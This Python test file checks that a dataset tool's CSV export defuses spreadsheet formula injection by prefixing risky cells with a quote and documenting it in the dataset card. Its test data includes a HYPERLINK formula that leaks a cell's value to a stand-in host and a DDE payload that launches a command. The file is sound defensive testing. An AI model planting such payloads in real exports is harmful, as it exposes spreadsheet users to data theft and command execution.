"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP, "CSV
Injection": prefix with ', quote every cell), and the dataset card says so."""

from __future__ import annotations

import csv
import io

from annotations.formats import FORMATS, dataset_card
from tests.formats import fixture
from tests.formats.helpers import export

# OWASP's list of characters a cell must not start with: = + - @ tab carriage-return.
HOSTILE = {
    "formula": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HARMLESS = {"plain": "Harga beras", "inner": "a=b, c+d", "quote": 'said "hi"', "empty": ""}


def _record(external_id: str, title: str, sentiment: str = "neutral") -> dict:
    return {
        "external_id": external_id,
        "title": title,
        "text": "Teks.",
        "meta": {},
        "spans": [],
        "relations": [],
        "document_labels": {"sentiment": sentiment},
    }


def _rows(records: list[dict], schema: dict | None = None) -> list[list[str]]:
    data, _ = export("csv", records, schema=schema)
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_cells_starting_like_formulas_get_a_leading_quote():
    """Python's csv module reads every hostile title back with a leading ' and the rest
    unchanged; harmless titles come back as they were."""
    titles = {**HOSTILE, **HARMLESS}
    rows = _rows([_record(key, title) for key, title in titles.items()])
    by_id = {row[0]: row for row in rows[1:]}
    for key, title in HOSTILE.items():
        assert by_id[key][1] == "'" + title, key
    for key, title in HARMLESS.items():
        assert by_id[key][1] == title, key


def test_every_text_cell_is_quoted_and_counts_are_numbers():
    """Each text cell is wrapped in double quotes (embedded quotes doubled); span counts are
    bare integers, so QUOTE_NONNUMERIC readers get numbers back."""
    data, _ = export("csv", [_record("doc-1", 'said "hi"')])
    header, row = data.decode("utf-8").splitlines()
    assert header.startswith('"external_id","title","split","sentiment","spans_PER"')
    assert row.startswith('"doc-1","said ""hi""","","neutral",0,')
    parsed = next(csv.reader(io.StringIO(row), quoting=csv.QUOTE_NONNUMERIC))
    assert parsed[:4] == ["doc-1", 'said "hi"', "", "neutral"]
    assert all(isinstance(count, float) for count in parsed[4:])


def test_ids_label_values_and_header_cells_are_defused_too():
    """Not only titles: an external id, a document label value and a label group name in
    the header are escaped the same way."""
    schema = fixture.schema()
    schema["labels"] = [
        *schema["labels"],
        {"kind": "document", "name": "=cmd", "group": "-group", "multiple": False},
    ]
    record = _record("@id", "ok")
    record["document_labels"]["-group"] = "=cmd"
    rows = _rows([record], schema)
    assert "'-group" in rows[0]
    assert rows[1][0] == "'@id"
    assert rows[1][rows[0].index("'-group")] == "'=cmd"


def test_the_csv_dataset_card_says_cells_are_escaped():
    """The card of a CSV export tells its reader about the leading ' and how to undo it."""
    _, result = export("csv")
    card = FORMATS["csv"].card_context(fixture.card())
    text = dataset_card(fixture.schema(), result, card)
    assert "- Values in this format: text cells starting with =, +, -, @" in text
    assert "drop that first '" in text
    jsonl_card = dataset_card(
        fixture.schema(), export("jsonl")[1], FORMATS["jsonl"].card_context(fixture.card())
    )
    assert "Values in this format" not in jsonl_card
